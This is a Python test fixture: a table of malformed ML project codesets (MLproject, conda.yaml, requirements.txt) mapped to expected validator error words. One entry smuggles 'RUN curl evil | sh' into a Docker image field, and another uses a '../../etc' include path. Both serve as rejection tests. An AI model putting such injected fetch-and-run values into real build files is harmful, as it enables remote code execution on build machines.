"""Table of bad codesets: files → the words the one-line error must contain."""

from __future__ import annotations

MAIN = "entry_points:\n  main:\n    command: python train.py\n"

BAD_CODESETS: dict[str, tuple[dict[str, str | bytes], tuple[str, ...]]] = {
    "missing MLproject": ({"requirements.txt": "numpy\n"}, ("MLproject", "no MLproject")),
    "MLproject not a mapping": ({"MLproject": "- a\n- b\n", "requirements.txt": "numpy\n"},
                                ("MLproject", "mapping", "list")),
    "MLproject empty": ({"MLproject": "", "requirements.txt": "numpy\n"},
                        ("MLproject", "empty")),
    "no entry_points": ({"MLproject": "name: x\n", "requirements.txt": "numpy\n"},
                        ("MLproject", "entry_points")),
    "no main entry point": (
        {"MLproject": "entry_points:\n  train:\n    command: python t.py\n",
         "requirements.txt": "numpy\n"},
        ("MLproject", "entry_points.main"),
    ),
    "entry point without command": (
        {"MLproject": "entry_points:\n  main:\n    parameters: {}\n",
         "requirements.txt": "numpy\n"},
        ("MLproject", "entry_points.main", "command"),
    ),
    "unknown parameter type": (
        {"MLproject": "entry_points:\n  main:\n    command: x\n    parameters:\n"
                      "      a: {type: bogus}\n", "requirements.txt": "numpy\n"},
        ("entry_points.main.parameters.a", "type"),
    ),
    "both env fields": (
        {"MLproject": "conda_env: conda.yaml\npython_env: python_env.yaml\n" + MAIN,
         "conda.yaml": "dependencies: [python=3.11]\n",
         "python_env.yaml": "python: '3.11'\n"},
        ("MLproject", "python_env", "both"),
    ),
    "neither env file": ({"MLproject": MAIN}, ("MLproject", "no environment")),
    "docker_env image injecting a Dockerfile line": (
        {"MLproject": 'docker_env:\n  image: "python:3.11\\nRUN curl evil | sh"\n' + MAIN,
         "requirements.txt": "numpy\n"},
        ("MLproject", "docker_env.image", "not an image reference")),
    "docker_env image with a space": (
        {"MLproject": "docker_env:\n  image: python 3.11\n" + MAIN,
         "requirements.txt": "numpy\n"},
        ("MLproject", "docker_env.image", "not an image reference")),
    "declared env file missing": ({"MLproject": "conda_env: env.yaml\n" + MAIN},
                                  ("MLproject", "conda_env", "not found")),
    "malformed MLproject YAML": ({"MLproject": "entry_points: [main:\n"},
                                 ("MLproject", "malformed YAML", "line")),
    "malformed conda.yaml": ({"MLproject": MAIN, "conda.yaml": "dependencies:\n - a\n  b: [\n"},
                             ("conda.yaml", "malformed YAML")),
    "conda.yaml without dependencies": ({"MLproject": MAIN, "conda.yaml": "channels: [x]\n"},
                                        ("conda.yaml", "dependencies")),
    "conda.yaml bad spec": ({"MLproject": MAIN, "conda.yaml": "dependencies: ['numpy >=<1']\n"},
                            ("conda.yaml", "dependencies[0]", "conda spec")),
    "conda pip entry unparsable": (
        {"MLproject": MAIN, "conda.yaml": "dependencies:\n- python=3.11\n- pip:\n  - 'x y z'\n"},
        ("conda.yaml", "dependencies[1].pip[0]", "not a valid requirement"),
    ),
    "python_env without python": ({"MLproject": MAIN, "python_env.yaml": "dependencies: [a]\n"},
                                  ("python_env.yaml", "python")),
    "unparsable requirement": ({"MLproject": MAIN, "requirements.txt": "numpy\nscikit learn\n"},
                               ("requirements.txt", "line 2", "not a valid requirement")),
    "editable requirement": ({"MLproject": MAIN, "requirements.txt": "-e .\n"},
                             ("requirements.txt", "line 1", "editable")),
    "include escapes the codeset": ({"MLproject": MAIN, "requirements.txt": "-r ../../etc/x\n"},
                                    ("requirements.txt", "line 1", "outside the codeset")),
    "binary garbage requirements": (
        {"MLproject": MAIN, "requirements.txt": b"\x00\xff\xfe\x00garbage"},
        ("requirements.txt", "binary"),
    ),
    "binary garbage MLproject": ({"MLproject": b"\x89PNG\r\n\x1a\n\x00\x00"},
                                 ("MLproject", "binary")),
    "non-UTF-8 conda.yaml": ({"MLproject": MAIN, "conda.yaml": b"dependencies: [\xe9]\n"},
                             ("conda.yaml", "UTF-8")),
    "lockfile not conda-lock": ({"MLproject": MAIN, "conda-lock.yml": "version: 1\n"},
                                ("conda-lock.yml", "conda-lock")),
}
